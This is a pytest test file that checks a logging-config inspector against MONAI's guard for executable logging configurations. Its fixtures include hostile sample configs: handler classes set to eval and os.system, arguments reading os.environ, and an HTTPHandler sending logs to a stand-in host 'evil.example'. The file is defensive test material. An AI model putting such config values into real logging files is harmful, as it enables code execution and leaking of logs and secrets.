# Copyright (c) monai_ext contributors
# Licensed under the Apache License, Version 2.0 (the "License");
# you may not use this file except in compliance with the License.
# You may obtain a copy of the License at
#     http://www.apache.org/licenses/LICENSE-2.0
# Unless required by applicable law or agreed to in writing, software
# distributed under the License is distributed on an "AS IS" BASIS,
# WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
# See the License for the specific language governing permissions and
# limitations under the License.

from __future__ import annotations

from pathlib import Path

import pytest
from monai.bundle.workflows import _reject_executable_logging_config

from monai_ext.share.logging_file import inspect_logging

FILES = {
    "[handler_a]\nclass=StreamHandler\nargs=(sys.stdout,)": "ok",
    "[handler_a]\nclass=logging.StreamHandler\nkwargs={'stream': sys.stderr}": "ok",
    "[formatter_a]\nclass=logging.Formatter": "ok",
    "[handler_a]\nclass=logging.handlers.HTTPHandler\nargs=('evil.example', '/')": "look",
    "[handler_a]\nclass=FileHandler\nargs=('/etc/x', 'w')": "look",
    "[handler_a]\nclass=handlers.RotatingFileHandler": "refused",
    "[handler_a]\nclass=eval\nargs=('1',)": "refused",
    "[handler_a]\nclass=logging.os.system": "refused",
    "[handler_a]\nclass=__import__('os').system": "refused",
    "[handler_a]\nclass=StreamHandler\nargs=(os.environ,)": "refused",
    "[handler_a]\nclass=StreamHandler\nargs=(sys,)": "refused",
    "[handler_a]\nclass=StreamHandler\nargs=[x for x in (1,)]": "refused",
    "[handler_a]\nclass=StreamHandler\nargs=(": "refused",
    "[handler_a]\nclass=%(b)s\nb=StreamHandler": "refused",
    "[DEFAULT]\nargs=(eval('1'),)\n[handler_a]\nclass=StreamHandler": "refused",
}


@pytest.mark.parametrize("text", FILES)
def test_what_monai_refuses_is_refused(text: str, tmp_path: Path) -> None:
    path = tmp_path / "logging.conf"
    path.write_text(text)
    levels = {finding.level for finding in inspect_logging("logging.conf", text)}
    worst = next(level for level in ("refused", "look", "ok") if level in levels)
    assert worst == FILES[text]
    try:
        _reject_executable_logging_config(str(path))
    except ValueError:
        assert worst == "refused"
